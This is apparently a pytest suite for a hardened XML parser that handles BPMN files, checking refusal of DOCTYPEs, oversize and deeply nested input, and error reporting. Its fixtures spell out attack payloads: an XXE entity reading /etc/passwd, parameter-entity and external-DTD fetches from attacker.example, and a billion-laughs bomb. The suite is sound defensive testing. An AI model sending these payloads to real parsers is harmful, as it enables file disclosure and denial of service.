"""The hardened XML parser refuses what could hurt the server and keeps line numbers."""

from pathlib import Path

import pytest

from engine.errors import XmlRejected
from engine.xml_safety import parse_xml

DATA = Path(__file__).resolve().parents[2] / "data" / "engine"

XXE_FILE = b"""<?xml version="1.0"?>
<!DOCTYPE definitions [<!ENTITY x SYSTEM "file:///etc/passwd">]>
<definitions>&x;</definitions>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE definitions [
  <!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd">
  %remote;
]>
<definitions/>"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<lolz a="&lol9;">&lol9;</lolz>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE definitions SYSTEM "http://attacker.example/bpmn.dtd">
<definitions/>"""


@pytest.mark.parametrize(
    "document",
    [XXE_FILE, PARAMETER_ENTITY, BILLION_LAUGHS, EXTERNAL_DTD],
    ids=["xxe-file", "parameter-entity", "billion-laughs", "external-dtd"],
)
def test_any_doctype_is_refused_before_entities_are_read(document):
    with pytest.raises(XmlRejected) as caught:
        parse_xml(document, "evil.bpmn")
    assert "DOCTYPE" in caught.value.message
    assert caught.value.context["file"] == "evil.bpmn"


def test_external_dtd_url_is_reported_not_fetched():
    with pytest.raises(XmlRejected) as caught:
        parse_xml(EXTERNAL_DTD)
    assert caught.value.context["system_id"] == "http://attacker.example/bpmn.dtd"


def test_doctype_in_utf16_is_refused_too():
    document = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE r [<!ENTITY x "y">]><r>&x;</r>'
    with pytest.raises(XmlRejected, match="DOCTYPE"):
        parse_xml(document.encode("utf-16"))


def test_oversize_document_is_refused_before_parsing():
    document = b"<definitions>" + b" " * 2048 + b"</definitions>"
    with pytest.raises(XmlRejected) as caught:
        parse_xml(document, max_bytes=1024)
    assert caught.value.context["size"] == len(document)
    assert caught.value.context["limit"] == 1024


def test_default_size_limit_is_five_megabytes():
    document = b"<a>" + b"x" * (5 * 1024 * 1024) + b"</a>"
    with pytest.raises(XmlRejected, match="bytes"):
        parse_xml(document)


def test_hundred_thousand_deep_nesting_is_refused_without_crashing():
    depth = 100_000
    document = b"<a>" * depth + b"</a>" * depth
    with pytest.raises(XmlRejected) as caught:
        parse_xml(document)
    assert caught.value.context["limit"] == 200


def test_nesting_up_to_the_limit_is_accepted():
    document = b"<a>" * 200 + b"</a>" * 200
    assert parse_xml(document).tag == "a"
    with pytest.raises(XmlRejected, match="nested more than 200"):
        parse_xml(b"<a>" * 201 + b"</a>" * 201)


def test_malformed_xml_reports_line_column_and_libxml_message():
    document = b'<?xml version="1.0"?>\n<definitions>\n  <process id="p">\n  </proces>\n</definitions>'
    with pytest.raises(XmlRejected) as caught:
        parse_xml(document, "broken.bpmn")
    context = caught.value.context
    assert context["line"] == 4
    assert context["column"] > 1
    assert context["file"] == "broken.bpmn"
    assert "mismatch" in caught.value.message


def test_undeclared_entity_is_malformed():
    with pytest.raises(XmlRejected, match="not defined"):
        parse_xml(b"<a>&nbsp;</a>")


def test_empty_document_is_malformed():
    with pytest.raises(XmlRejected, match="well-formed"):
        parse_xml(b"")


def test_encoding_declaration_in_bytes_is_honoured():
    root = parse_xml('<?xml version="1.0" encoding="ISO-8859-1"?><a name="café"/>'.encode("latin-1"))
    assert root.get("name") == "café"


def test_str_is_accepted_when_it_declares_utf8_or_nothing():
    assert parse_xml('<?xml version="1.0" encoding="UTF-8"?><a>审批</a>').text == "审批"
    assert parse_xml("<a>审批</a>").text == "审批"


def test_str_declaring_another_encoding_is_refused():
    with pytest.raises(XmlRejected, match="bytes"):
        parse_xml('<?xml version="1.0" encoding="GBK"?><a/>')


def test_comments_and_processing_instructions_are_dropped():
    root = parse_xml(b"<a><!-- note --><?pi data?><b/></a>")
    assert [child.tag for child in root] == ["b"]


def test_good_bpmn_file_parses_and_keeps_source_lines():
    source = (DATA / "camunda_approval.bpmn").read_bytes()
    root = parse_xml(source, "camunda_approval.bpmn")
    task = root.find(".//{http://www.omg.org/spec/BPMN/20100524/MODEL}userTask[@id='Task_Accept']")
    expected = next(n for n, text in enumerate(source.decode().splitlines(), 1) if 'id="Task_Accept"' in text)
    assert task.sourceline == expected
